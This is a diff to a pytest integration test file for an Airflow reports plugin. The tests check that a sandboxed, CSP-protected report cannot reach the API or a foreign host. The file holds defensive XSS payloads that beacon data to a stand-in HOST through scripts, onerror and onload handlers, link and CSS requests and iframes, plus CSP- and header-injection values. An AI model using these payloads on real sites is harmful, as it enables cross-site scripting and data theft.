@@ -1,4 +1,7 @@
-"""A report that is hostile, opened by an admin in a real browser: it reaches neither Airflow's API nor another host."""
+"""A hostile report cannot reach Airflow's API or another host.
+
+An admin opens it in a real browser.
+"""
 
 import json
 import time
@@ -13,7 +16,7 @@ from tests.integration.report_pages.conftest import PATH
 
 pytestmark = [pytest.mark.timeout(600)]
 API = "/api/v2/"
-# Everything that a script could try. It runs in the report; HOST is the foreign host.
+# Every known attack of a script. It runs in the report. HOST is the foreign host.
 ATTACK = """
 window.__xss = 1;
 document.documentElement.dataset.ran = "yes";
@@ -40,7 +43,7 @@ document.documentElement.dataset.ran = "yes";
   setTimeout(() => { location = "HOST/self?" + document.title }, 2500);
 })();
 """
-# Needs no script, or runs one in ways that are not a <script>.
+# Attacks that need no script, or run one without a <script> element.
 MARKUP = """<title>secret</title><img src=x onerror="window.__xss=1;new Image().src='HOST/onerror'"><svg onload="window.__xss=1"></svg>
 <link rel="preconnect" href="HOST/"><LINK rel=prefetch href="HOST/prefetch"><link rel="stylesheet" href="HOST/style.css"><style>@import "HOST/import.css";
 body{background:url(HOST/background)}</style><iframe src="HOST/frame"></iframe><iframe src="javascript:parent.__xss=1"></iframe>
@@ -50,7 +53,10 @@ body{background:url(HOST/background)}</style><iframe src="HOST/frame"></iframe><
 
 
 def write(folder, host: str, name: str = "index.html", *, declared: bool = False, markup: str = MARKUP) -> None:
-    """A report with the attack; ``declared``: its writer has listed its script, so it runs."""
+    """Write a report with the attack.
+
+    With ``declared``, its script is in the list of allowed scripts, so it runs.
+    """
     script = ATTACK.replace("HOST", host)
     folder.mkdir(parents=True, exist_ok=True)
     (folder / name).write_text(f"<!doctype html><p>a report</p>{markup.replace('HOST', host)}<script>{script}</script>")
@@ -67,7 +73,10 @@ def test_no_script_of_a_report_runs_that_its_writer_did_not_list(open_page, site
 
 @pytest.mark.parametrize("in_ui", [False, True], ids=["by its address", "in Airflow's UI"])
 def test_a_script_that_runs_reaches_neither_the_api_nor_another_host(browser, open_page, site, listener, folder, in_ui):
-    """The script is listed, as if the attacker could write the list too."""
+    """A script that runs reaches neither the API nor another host.
+
+    The script is listed, as if the attacker could also write the list.
+    """
     write(folder, listener.url, declared=True, markup="")
     open_page(PATH, in_ui=in_ui)
     driver = browser.driver
@@ -76,7 +85,9 @@ def test_a_script_that_runs_reaches_neither_the_api_nor_another_host(browser, op
     assert driver.execute_script("return [document.documentElement.dataset.ran, self.origin]") == ["yes", "null"]
     driver.switch_to.default_content()
     time.sleep(4)
-    assert driver.current_url == f"{site.url}/ui-frame" if in_ui else driver.current_url.startswith(f"{site.url}/airloop")
+    assert (
+        driver.current_url == f"{site.url}/ui-frame" if in_ui else driver.current_url.startswith(f"{site.url}/airloop")
+    )
     assert [path for _, path, _ in site.asked if path.startswith(API)] == []
     assert site.asked_with_login(but=(unquote(PATH),)) == [] and listener.heard == []
 
@@ -84,14 +95,37 @@ def test_a_script_that_runs_reaches_neither_the_api_nor_another_host(browser, op
 HOSTILE_XML = """<{root}><body xmlns="http://www.w3.org/1999/xhtml"><script xmlns="http://www.w3.org/1999/xhtml">{script}</script></body></{root_name}>"""
 
 
-@pytest.mark.parametrize("name", ["x.svg", "x.xhtml", "x.xml", "x.html.txt", "x.json", "x.htm", "x.shtml", "x.mhtml", "x", "x.js", "x.pdf", "X.HTML", "x.xsl"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "x.svg",
+        "x.xhtml",
+        "x.xml",
+        "x.html.txt",
+        "x.json",
+        "x.htm",
+        "x.shtml",
+        "x.mhtml",
+        "x",
+        "x.js",
+        "x.pdf",
+        "X.HTML",
+        "x.xsl",
+    ],
+)
 def test_no_name_of_a_file_escapes_the_policy(browser, open_page, site, listener, folder, name):
     script = ATTACK.replace("HOST", listener.url)
     folder.mkdir(parents=True)
     (folder / "index.html").write_text("a report")
     if name.endswith((".svg", ".xhtml", ".xml", ".xsl")):
-        root = 'svg xmlns="http://www.w3.org/2000/svg"' if name.endswith("svg") else 'html xmlns="http://www.w3.org/1999/xhtml"'
-        (folder / name).write_text(HOSTILE_XML.format(root=root, root_name=root.partition(" ")[0], script=f"<![CDATA[{script}]]>"))
+        root = (
+            'svg xmlns="http://www.w3.org/2000/svg"'
+            if name.endswith("svg")
+            else 'html xmlns="http://www.w3.org/1999/xhtml"'
+        )
+        (folder / name).write_text(
+            HOSTILE_XML.format(root=root, root_name=root.partition(" ")[0], script=f"<![CDATA[{script}]]>")
+        )
     else:
         write(folder, listener.url, name)
     open_page(PATH + name, wait_s=1.5)
@@ -99,37 +133,71 @@ def test_no_name_of_a_file_escapes_the_policy(browser, open_page, site, listener
 
 
 def test_every_answer_has_the_headers(site, token, folder):
-    """Errors too: those of the plugin, of its framework and of a login."""
+    """Error responses of the plugin, of its framework and of a login have the headers, too."""
     write(folder, "http://127.0.0.1:1")
-    browser = httpx.Client(base_url=site.url, cookies={"_token": token}, trust_env=False)
+    browser = httpx.Client(base_url=site.url, cookies={"_token": token}, timeout=60, trust_env=False)
     answers = {
         200: browser.get(PATH), 404: browser.get(f"{PATH}nothing.html"), 401: httpx.get(f"{site.url}{PATH}", trust_env=False), 405: browser.post(PATH),
         1404: browser.get("/airloop/nothing"), 2404: browser.get(PATH.replace("flights", "nobody")), 2200: browser.get(f"{PATH}index.html"),
         1200: browser.get(f"{PATH}index.html{SCRIPTS_SUFFIX}x"),
     }  # fmt: skip
-    assert {code % 1000: answer.status_code for code, answer in answers.items() if code < 1000} == {200: 200, 404: 404, 401: 401, 405: 405}
+    assert {code % 1000: answer.status_code for code, answer in answers.items() if code < 1000} == {
+        200: 200,
+        404: 404,
+        401: 401,
+        405: 405,
+    }
     for answer in answers.values():
-        said = answer.headers["content-security-policy"]
-        assert said.startswith("sandbox allow-scripts") and "allow-same-origin" not in said and "'unsafe-eval'" not in said
-        for directive in ("default-src 'none'", "script-src 'none'", "connect-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'"):
-            assert directive in said, (answer.status_code, directive)
-        assert answer.headers["x-content-type-options"] == "nosniff" and answer.headers["referrer-policy"] == "no-referrer"
-        assert answer.headers["cross-origin-resource-policy"] == "same-origin" and answer.headers["cross-origin-opener-policy"] == "same-origin"
+        policy = answer.headers["content-security-policy"]
+        assert (
+            policy.startswith("sandbox allow-scripts")
+            and "allow-same-origin" not in policy
+            and "'unsafe-eval'" not in policy
+        )
+        for directive in (
+            "default-src 'none'",
+            "script-src 'none'",
+            "connect-src 'none'",
+            "form-action 'none'",
+            "base-uri 'none'",
+            "frame-ancestors 'self'",
+        ):
+            assert directive in policy, (answer.status_code, directive)
+        assert (
+            answer.headers["x-content-type-options"] == "nosniff" and answer.headers["referrer-policy"] == "no-referrer"
+        )
+        assert (
+            answer.headers["cross-origin-resource-policy"] == "same-origin"
+            and answer.headers["cross-origin-opener-policy"] == "same-origin"
+        )
 
 
 def test_a_user_is_told_which_installation_this_is(site, token):
-    """`airloop run` of another one asks, and starts nothing."""
+    """The plugin returns the installation's id to an authenticated user.
+
+    `airloop run` of another installation queries it, and then starts nothing.
+    """
     url = f"{site.url}/airloop/installation"
     assert httpx.get(url, trust_env=False).status_code == 401
     answer = httpx.get(url, headers={"Authorization": f"Bearer {token}"}, trust_env=False)
     assert answer.json() == {"installation": ledger.installation()}
 
 
-@pytest.mark.parametrize("listed", ["not json", "{}", "[\"'unsafe-inline'\"]", '["sha256-x; script-src *"]', '[1, null, "*"]', '["sha256-AAAA\\r\\nX: y"]'])
+@pytest.mark.parametrize(
+    "listed",
+    [
+        "not json",
+        "{}",
+        "[\"'unsafe-inline'\"]",
+        '["sha256-x; script-src *"]',
+        '[1, null, "*"]',
+        '["sha256-AAAA\\r\\nX: y"]',
+    ],
+)
 def test_a_list_of_scripts_adds_nothing_but_hashes(site, token, folder, listed):
     write(folder, "http://127.0.0.1:1")
     (folder / f"index.html{SCRIPTS_SUFFIX}").write_text(listed)
-    answer = httpx.get(f"{site.url}{PATH}", cookies={"_token": token}, trust_env=False)
+    answer = httpx.get(f"{site.url}{PATH}", cookies={"_token": token}, timeout=60, trust_env=False)
     assert answer.status_code == 200 and "script-src 'none'" in answer.headers["content-security-policy"]
     assert "unsafe-inline'; img" in answer.headers["content-security-policy"] and "x" not in answer.headers
 
